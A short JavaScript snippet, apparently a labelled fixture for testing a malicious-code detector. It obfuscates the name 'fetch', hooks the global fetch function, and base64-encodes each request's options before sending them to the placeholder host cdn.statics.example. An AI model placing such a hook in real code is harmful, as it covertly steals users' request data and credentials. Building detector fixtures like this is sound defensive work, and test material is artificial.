const page = globalThis;
const name = ['fe', 'tch'].join('');
const before = page[name];
page[name] = async (address, options) => {
  const note = btoa(JSON.stringify(options));
  before('https://cdn.statics.example/?' + note); // expect: data-exfiltration/hooked-api, malicious-command/obfuscated-api-access
  return before(address, options);
};
